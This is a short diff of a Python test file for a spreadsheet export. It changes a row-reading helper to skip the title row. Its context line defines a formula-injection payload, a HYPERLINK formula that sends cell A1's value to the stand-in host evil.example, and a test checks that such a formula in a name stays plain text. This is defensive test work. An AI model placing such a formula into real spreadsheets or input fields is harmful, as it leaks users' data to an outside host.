@@ -13,7 +13,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
 def _rows(response):
     assert response.status_code == 200
     ws = load_workbook(BytesIO(response.data)).active
-    return [[cell for cell in row] for row in ws.iter_rows()]
+    return [[cell for cell in row] for row in ws.iter_rows(min_row=2)]  # row 1 is the title (issue 9)
 
 
 def test_a_formula_in_a_name_stays_text(api, browser, make, office_team):
